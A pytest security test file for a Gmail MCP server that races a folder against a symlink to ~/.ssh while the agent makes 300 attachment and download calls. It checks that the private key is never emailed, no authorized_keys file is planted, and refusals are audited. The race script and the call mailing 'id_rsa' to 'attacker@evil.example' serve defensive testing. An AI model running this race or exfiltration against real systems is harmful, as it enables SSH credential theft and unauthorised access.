"""Racing the jails: another process swaps a folder for a link (and back) in a loop while the agent
makes 300 calls. Nothing secret is attached, nothing is planted outside, every refusal is audited.
And 300 calls with a folder as attachment under a 256-descriptor limit leave the server healthy.
"""

from __future__ import annotations

import email
import email.policy
import json
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import make_client
from tests.mcp_harness import Harness
from tests.test_e2e import INITIALIZE, child_env, spawn

pytestmark = pytest.mark.anyio

CALLS = 300
SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----\nsecret-of-the-person\n"


# Another local process (the attacker): a real process, so the swaps run beside the server and not
# only when this interpreter's lock lets a thread run. On Linux the folder and a link are exchanged
# atomically (renameat2 RENAME_EXCHANGE), so the name is always one or the other; elsewhere the
# folder is moved aside and a link put in its place, and back. A folder the server creates while
# the name is free (downloads make missing folders) is left in place, the parked one put aside.
SWAPPER = """
import ctypes, json, os, sys
folder, target, stop = sys.argv[1:4]
link, parked = folder + "-link", folder + "-parked"
made = {"to-link": 0, "aside": 0}
try:
    renameat2 = ctypes.CDLL(None, use_errno=True).renameat2
except (AttributeError, OSError):
    renameat2 = None
AT_FDCWD, RENAME_EXCHANGE = -100, 2

def exchange():
    if renameat2(AT_FDCWD, folder.encode(), AT_FDCWD, link.encode(), RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")

def put_back():
    try:
        os.rename(parked, folder)
    except OSError:
        os.rename(parked, f"{folder}-aside-{made['aside']}")
        made["aside"] += 1

if renameat2 is not None:
    os.symlink(target, link)
    try:
        exchange()
        exchange()
    except OSError:
        renameat2 = None
        os.unlink(link)
print("ready", flush=True)
while not os.path.exists(stop):
    if renameat2 is not None:
        exchange()
        made["to-link"] += 1
        exchange()
        continue
    os.rename(folder, parked)
    try:
        os.symlink(target, folder)
    except FileExistsError:
        put_back()
        continue
    made["to-link"] += 1
    os.unlink(folder)
    put_back()
if renameat2 is not None:
    os.unlink(link)
print(json.dumps(made), flush=True)
"""


@contextmanager
def swapping(folder: Path, target: Path) -> Iterator[dict[str, int]]:
    """Another process turns `folder` into a link to `target` and back as fast as it can; yields
    the count of swaps, filled in when the block ends."""
    stop = folder.with_name("stop-swapping")
    made: dict[str, int] = {}
    swapper = subprocess.Popen(
        [sys.executable, "-c", SWAPPER, str(folder), str(target), str(stop)],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert swapper.stdout is not None and swapper.stdout.readline() == "ready\n"
        yield made
        stop.touch()
        out, _ = swapper.communicate(timeout=30)
        assert swapper.returncode == 0, out
        made.update(json.loads(out))
    finally:
        swapper.kill()
        swapper.wait(timeout=30)
    assert folder.is_dir() and not folder.is_symlink()


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_bytes(SECRET)
    monkeypatch.setenv("HOME", str(home))
    return home


def audited_refusals(harness: Harness, tool: str) -> int:
    lines = harness.settings().paths.audit_log.read_text().splitlines()
    return sum(1 for r in map(json.loads, lines) if r["tool"] == tool and r["outcome"] == "refused")


def sent_attachments(harness: Harness, filename: str) -> list[bytes]:
    """Every attachment named `filename` of every message in Sent, from the stored copy (format=raw)."""
    harness.clock.advance(60)  # the sends spent this minute's quota; reading is another minute's
    client = make_client(harness.sandbox, harness.clock)
    found: list[bytes] = []
    token = None
    while True:
        page = client.list_messages(label_ids=["SENT"], max_results=50, page_token=token)
        for sent in page.messages:
            message = email.message_from_bytes(client.get_raw(sent.id), policy=email.policy.default)
            found += [
                part.get_payload(decode=True) for part in message.walk() if part.get_filename() == filename
            ]
        token = page.next_page_token
        if not token:
            return found


async def test_swapping_a_folder_for_a_link_never_attaches_the_secret(harness: Harness, home: Path) -> None:
    outbox = harness.settings().paths.outbox
    (outbox / "docs").mkdir(parents=True)
    (outbox / "docs" / "id_rsa").write_bytes(b"a harmless decoy\n")
    arguments = {
        "recipient_id": "attacker@evil.example",
        "subject": "keys",
        "message": "as asked",
        "attachment_paths": ["docs/id_rsa"],
    }
    async with harness.client(enhanced=True) as client:
        with swapping(outbox / "docs", home / ".ssh") as swaps:
            results = [await client.call("send-email-with-attachment", arguments) for _ in range(CALLS)]
    outcomes = Counter(
        json.loads(r.content[0].text)["error_code"] if r.is_error else "sent"  # type: ignore[union-attr]
        for r in results
    )
    attached = sent_attachments(harness, "id_rsa")
    assert swaps["to-link"] > 0
    assert all(SECRET not in data for data in attached)
    assert attached == [b"a harmless decoy\n"] * outcomes["sent"]
    assert set(outcomes) <= {"sent", "PERMISSION_DENIED", "INVALID_PARAMS"}, outcomes
    assert outcomes["PERMISSION_DENIED"] > 0, outcomes  # the race was run: calls met the link
    assert len(harness.sandbox.stats()["outbox"]) == min(outcomes["sent"], 100)  # the sandbox keeps 100
    assert audited_refusals(harness, "send-email-with-attachment") == CALLS - outcomes["sent"]


async def test_swapping_a_folder_for_a_link_never_plants_a_file_outside(
    harness: Harness, home: Path, tmp_path: Path
) -> None:
    save_dir = tmp_path / "saved"
    (save_dir / "inbox").mkdir(parents=True)
    async with harness.client(enhanced=True, download_dirs=(save_dir,)) as client:
        found = await client.ok("search-emails", {"query": "has:attachment filename:pdf"})
        email_id = found["emails"][0]["id"]
        attachment = (await client.ok("read-email", {"email_id": email_id}))["attachments"][0]
        arguments = {
            "email_id": email_id,
            "attachment_id": attachment["attachment_id"],
            "save_path": "inbox/authorized_keys",
        }
        with swapping(save_dir / "inbox", home / ".ssh") as swaps:
            results = [await client.call("download-attachment", arguments) for _ in range(CALLS)]
    saved = [r for r in results if not r.is_error]
    refused = [r for r in results if r.is_error]
    planted = [p for p in tmp_path.rglob("authorized_keys*") if not p.is_relative_to(save_dir)]
    written = list(save_dir.rglob("authorized_keys*"))
    assert swaps["to-link"] > 0
    assert planted == []
    assert sorted(p.name for p in (home / ".ssh").iterdir()) == ["id_rsa"]
    assert (home / ".ssh" / "id_rsa").read_bytes() == SECRET
    assert len(saved) + len(refused) == CALLS and refused, "the race was run: calls met the link"
    assert len(written) == len(saved) and all(p.read_bytes().startswith(b"%PDF-") for p in written)
    assert audited_refusals(harness, "download-attachment") == len(refused)


@pytest.mark.skipif(sys.platform == "win32", reason="resource limits are POSIX")
def test_300_folder_attachments_under_a_256_descriptor_limit_leave_the_server_healthy(tmp_path: Path) -> None:
    folder = tmp_path / "outbox"
    (folder / "a-folder").mkdir(parents=True)
    (folder / "report.txt").write_text("numbers")
    limited = (
        "import resource, sys; resource.setrlimit(resource.RLIMIT_NOFILE, (256, 256)); "
        "from gmail_mcp.cli import main; sys.exit(main(sys.argv[1:]))"
    )
    argv = [sys.executable, "-c", limited, "serve", "--sandbox", "--enhanced", "--attach-dir", str(folder)]

    def call(number: int, name: str, arguments: dict[str, Any]) -> dict[str, Any]:
        server.send(
            {
                "jsonrpc": "2.0",
                "id": number,
                "method": "tools/call",
                "params": {"name": name, "arguments": arguments},
            }
        )
        answer = server.receive()
        assert answer["id"] == number, answer
        result: dict[str, Any] = answer["result"]
        return result

    send = {"recipient_id": "ana@example.org", "subject": "files", "message": "here"}
    with spawn(argv, child_env(tmp_path / "home"), stdin=True) as server:
        server.send(INITIALIZE)
        assert server.receive()["id"] == 1
        server.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
        codes = Counter(
            json.loads(result["content"][0]["text"])["error_code"]
            for result in (
                call(n, "send-email-with-attachment", {**send, "attachment_paths": ["a-folder"]})
                for n in range(2, 2 + CALLS)
            )
        )
        unread = call(1000, "get-unread-emails", {"max_results": 2})
        sent = call(1001, "send-email-with-attachment", {**send, "attachment_paths": ["report.txt"]})
    assert codes == {"PERMISSION_DENIED": CALLS}
    assert not unread.get("isError") and len(unread["structuredContent"]["emails"]) == 2
    assert not sent.get("isError") and sent["structuredContent"]["status"] == "success"
